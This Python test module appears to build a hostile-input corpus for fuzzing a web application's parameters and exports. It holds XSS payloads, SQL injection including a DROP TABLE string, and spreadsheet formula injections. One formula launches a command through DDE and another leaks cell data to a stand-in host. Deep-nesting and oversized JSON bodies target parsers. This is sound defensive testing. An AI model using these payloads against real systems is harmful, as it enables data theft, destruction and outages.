"""The hostile-input corpus: values a client may send, grouped by kind, and the checks on what comes back.

Each kind has one representative (`REPRESENTATIVE`), sent to every parameter; the whole corpus
(`CORPUS`) goes through a sample of parameters. Text values that a page could echo carry the
markers (`alert(1)`) that `walk.active_markup` looks for in the markup, so an echo that is not
escaped is found wherever it lands.
Values are `str` unless they cannot be: invalid UTF-8 is `bytes`, and is sent as such in a query
string or a form body (percent-encoded) or a JSON body (raw).
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
SINGLE_QUOTE_BREAK = "' autofocus onfocus=alert(1) x='"
JAVASCRIPT_URL = "javascript:alert(1)"
SQL = "' OR 1=1 --"
SQL_UNION = "1; DROP TABLE accounts_user; --"
FORMULAS = (
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
RTL = "\u202egnp.exe"
NUL = "a\x00b"
LONG = "я" * 100_000
# Bytes that are not UTF-8: a lone surrogate as UTF-8 would write it (CESU), and 0xFF.
INVALID_UTF8 = b"\xed\xa0\x80\xff\xfe"
# A lone surrogate escaped in JSON: valid JSON, a `str` no database can store.
LONE_SURROGATE_JSON = "\\ud800"

NUMBERS = (
    "-1",
    "0",
    str(2**31),
    str(2**63 - 1),
    str(2**63),
    str(2**64),
    str(-(2**63) - 1),
    "1e309",
    "NaN",
    "Infinity",
    "12abc",
)
DATES = ("0001-01-01", "9999-12-31T23:59:59Z", "10000-01-01", "2026-02-30", "", "0000-00-00T25:61:61+99:99")

TEXT = (SCRIPT, IMG, SINGLE_QUOTE_BREAK, JAVASCRIPT_URL, SQL, SQL_UNION, *FORMULAS, RTL, NUL, LONG)


@dataclass(frozen=True)
class Value:
    kind: str
    raw: str | bytes  # what is sent: bytes are sent as they are (not UTF-8)
    json_raw: str | None = None  # for a JSON body: the literal written in place of the field's value

    def __str__(self) -> str:
        return f"{self.kind}:{self.raw[:40]!r}"


def _text(kind: str, raw: str) -> Value:
    return Value(kind, raw)


# One value of each kind, sent to every parameter.
REPRESENTATIVE: tuple[Value, ...] = (
    _text("html", IMG + SCRIPT),
    _text("quote", SINGLE_QUOTE_BREAK),
    _text("sql+formula", SQL + FORMULAS[0]),
    _text("control", NUL + RTL),
    Value("utf8", INVALID_UTF8, json_raw=f'"{LONE_SURROGATE_JSON}"'),
    _text("number", str(2**63)),
    _text("junk-number", "12abc"),
    _text("date", "10000-01-01"),
)

# The text kinds in one value, which every parameter gets at once (the quick walk): a formula
# first, so that an export that does not neutralise it shows.
COMBINED = Value("text", FORMULAS[0] + IMG + SCRIPT + SINGLE_QUOTE_BREAK + SQL + RTL)
# The kinds that one value cannot combine: a parameter refused for one would hide the others.
APART = tuple(v for v in REPRESENTATIVE if v.kind in {"control", "utf8", "number", "junk-number", "date"})

# Everything, for a sample of parameters.
CORPUS: tuple[Value, ...] = (
    *(Value("text", raw) for raw in TEXT),
    Value("utf8", INVALID_UTF8, json_raw=f'"{LONE_SURROGATE_JSON}"'),
    *(Value("number", raw) for raw in NUMBERS),
    *(Value("date", raw) for raw in DATES),
)

# Numbers as JSON literals (not strings): where a JSON body takes a number.
JSON_NUMBERS = (
    "-1",
    "0",
    str(2**31),
    str(2**63 - 1),
    str(2**63),
    str(2**64),
    str(-(2**63) - 1),
    "1e309",
    "NaN",
    "Infinity",
    "1.5",
)
# The wrong JSON type for a field: a list for an object, an object for a list, and so on.
WRONG_TYPES = ("[]", "{}", "null", "true", '"x"', "[[[]]]", '{"a": {"b": []}}')


def deep_json(depth: int = 10_000) -> bytes:
    """A JSON body nested `depth` deep (arrays), which a recursive parser cannot read."""
    return b"[" * depth + b"]" * depth


def deep_object(depth: int = 10_000) -> bytes:
    return b'{"a":' * depth + b"1" + b"}" * depth


def huge_array(megabytes: int = 3) -> bytes:
    """A JSON array of about `megabytes` MB of small numbers."""
    count = megabytes * 1024 * 1024 // 2
    return b"[" + b"0," * (count - 1) + b"0]"


def form_value(value: Value) -> bytes:
    """The value percent-encoded for a query string or an urlencoded body (bytes as they are)."""
    from urllib.parse import quote_from_bytes

    raw = value.raw if isinstance(value.raw, bytes) else value.raw.encode()
    return quote_from_bytes(raw, safe=b"").encode()


def urlencoded(fields: dict[str, Any]) -> bytes:
    """A form body or query string where Value fields are sent as their raw bytes."""
    from urllib.parse import quote_from_bytes

    parts = []
    for name, value in fields.items():
        values = value if isinstance(value, list) else [value]
        for one in values:
            if isinstance(one, Value):
                encoded = form_value(one)
            else:
                encoded = quote_from_bytes(str(one).encode(), safe=b"").encode()
            parts.append(quote_from_bytes(name.encode(), safe=b"").encode() + b"=" + encoded)
    return b"&".join(parts)


def json_body(fields: dict[str, Any]) -> bytes:
    """A JSON object whose Value fields are written as their JSON literal (a string, or their own)."""
    placeholders: dict[str, str] = {}
    plain: dict[str, Any] = {}
    for name, value in fields.items():
        if isinstance(value, Value):
            marker = f"__hostile_{len(placeholders)}__"
            placeholders[f'"{marker}"'] = value.json_raw or json.dumps(
                value.raw if isinstance(value.raw, str) else value.raw.decode("utf-8", "surrogateescape")
            )
            plain[name] = marker
        elif isinstance(value, Literal):
            marker = f"__hostile_{len(placeholders)}__"
            placeholders[f'"{marker}"'] = value.text
            plain[name] = marker
        else:
            plain[name] = value
    text = json.dumps(plain)
    for marker, literal in placeholders.items():
        text = text.replace(marker, literal)
    return text.encode("utf-8", "surrogateescape")


@dataclass(frozen=True)
class Literal:
    """A JSON literal written as it is (a number past 2^63, NaN, a list where an object goes)."""

    text: str

    def __str__(self) -> str:
        return f"json:{self.text[:40]}"


def formula_cells(rows: Iterator[list[str]]) -> list[str]:
    """Cells of an exported table that a spreadsheet would run as a formula."""
    from veche.core.spreadsheet import FORMULA_STARTS

    return [cell for row in rows for cell in row if cell[:1] in FORMULA_STARTS and not _is_number(cell)]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
